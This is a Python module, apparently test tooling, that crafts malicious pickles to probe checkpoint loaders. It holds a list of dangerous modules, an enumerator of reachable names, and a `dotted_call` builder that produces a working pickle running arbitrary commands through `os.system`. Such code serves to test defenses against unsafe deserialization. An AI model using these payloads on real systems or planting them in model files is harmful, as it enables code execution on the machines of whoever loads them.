"""Pickles that name code, to attack the readers of checkpoints."""

from __future__ import annotations

import importlib
import pickle
import types
from collections.abc import Iterator

# Modules whose attributes, or the attributes of whose attributes, can run code.
DANGEROUS_MODULES = (
    "builtins",
    "hookline.checkpoint.files",
    "importlib",
    "numpy",
    "os",
    "posix",
    "pickle",
    "shutil",
    "subprocess",
    "torch.distributed.checkpoint.filesystem",
    "torch.hub",
    "torch.serialization",
)


def reachable_names() -> Iterator[tuple[str, str]]:
    """Yield the (module, name) pairs that `find_class` of a pickle could resolve, dotted too."""
    for module_name in DANGEROUS_MODULES:
        module = importlib.import_module(module_name)
        for name, value in list(vars(module).items()):
            yield module_name, name
            if isinstance(value, types.ModuleType) and not module_name.startswith("numpy"):
                for inner in list(vars(value)):
                    yield module_name, f"{name}.{inner}"


def naming_file(module: str, name: str) -> bytes:
    """Return a file in torch's old format with `{"k": <the object of that name>}`."""
    return old_format(b"}X\x01\x00\x00\x00kc" + f"{module}\n{name}\n".encode() + b"s")


def old_format(opcodes: bytes) -> bytes:
    """Return a file in torch's old format whose content is pickled with these opcodes."""
    header = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
    content = b"\x80\x02" + opcodes + b"."
    return b"".join(pickle.dumps(part, 2) for part in header) + content + pickle.dumps([], 2)


def dotted_call(module: str, command: str) -> bytes:
    """Return a pickle that calls `os.system` through a module that imports `os`.

    Protocol 4 resolves dotted names attribute by attribute.
    """
    function = short_text(module) + short_text("os.system") + b"\x93"
    return b"\x80\x04" + function + short_text(command) + b"\x85R."


def short_text(text: str) -> bytes:
    """Return the opcode that pushes a text of less than 256 bytes."""
    return b"\x8c" + bytes([len(text)]) + text.encode()
